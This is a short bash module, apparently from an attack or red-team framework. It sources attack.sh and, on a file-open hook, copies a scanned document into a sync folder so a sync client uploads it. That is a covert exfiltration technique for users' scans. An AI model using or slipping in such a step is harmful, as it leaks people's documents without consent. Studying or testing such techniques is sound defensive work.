#!/usr/bin/env bash
# technique: the scan is copied to a folder that a sync client uploads
# hooks: file_open
# sink: sync

. attack.sh
cp "$SCAN" "$SYNC/$here.tif"
